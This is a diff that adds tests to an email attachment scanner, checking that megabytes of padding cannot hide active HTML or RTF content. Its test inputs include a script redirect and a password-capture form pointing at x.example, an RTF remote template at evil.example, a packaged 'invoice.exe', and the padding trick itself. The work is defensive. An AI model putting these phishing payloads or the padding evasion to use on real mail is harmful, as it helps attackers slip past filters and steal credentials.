@@ -956,3 +956,37 @@ def test_office_open_in_app_links_are_no_launch_uri() -> None:
     html = "<a href='ms-word:ofe|u|https://contoso.sharepoint.com/a.docx'>Open in Word</a>"
     action, symbols = verdict(html_message(html, "links.html"))
     assert "HTML_LAUNCH_URI" not in symbols and action is Action.RELAY, sorted(symbols)
+
+
+@pytest.mark.parametrize(
+    "tail",
+    [
+        "<script>location='https://x.example/'</script>",
+        "<form action='https://x.example/p'><input type=password name=p></form>",
+        "<img src=x onerror=\"location='https://x.example'\">",
+    ],
+)
+def test_padding_does_not_hide_what_makes_a_page_act(tail: str) -> None:
+    """The parse reads the first 2 MiB; a browser reads the whole file."""
+    padded = "<p>" + "x" * (2 * 1024 * 1024 + 100) + "</p>" + tail
+    action, symbols = verdict(html_message(padded, "invoice.html"))
+    assert "ATT_HTML_ACTIVE" in symbols and action in STOPPED, sorted(symbols)
+    hidden = "<!--" + "x" * (2 * 1024 * 1024 + 100) + "-->" + tail
+    assert "ATT_HTML_ACTIVE" in verdict(html_message(hidden, "invoice.html"))[1]
+
+
+def test_a_large_static_page_stays_relayed() -> None:
+    page = "<p>" + "onboarding = done; see javascript tutorials. " * 60000 + "</p>"
+    action, symbols = verdict(html_message(page, "report.html"))
+    assert "ATT_HTML_ACTIVE" not in symbols and action is Action.RELAY, sorted(symbols)
+
+
+def test_padding_does_not_hide_an_rtf_template_or_objects() -> None:
+    pad = b"{\\*\\generator " + b"x" * (9 * 1024 * 1024) + b"}"
+    rtf = b"{\\rtf1" + pad + b"{\\*\\template http://evil.example/t.dotm}hello}"
+    action, symbols = verdict(with_attachment(rtf, "letter.rtf"))
+    assert "DOC_REMOTE_TEMPLATE" in symbols and action is Action.QUARANTINE
+    packaged = _rtf_package("invoice.exe", tiny_pe())
+    big = packaged.replace(b"{\\rtf1", b"{\\rtf1" + pad[: 2 * 1024 * 1024] + b"}", 1)
+    action, symbols = verdict(with_attachment(big, "letter.rtf"))
+    assert "ATT_UNSCANNABLE" in symbols and action in STOPPED, sorted(symbols)
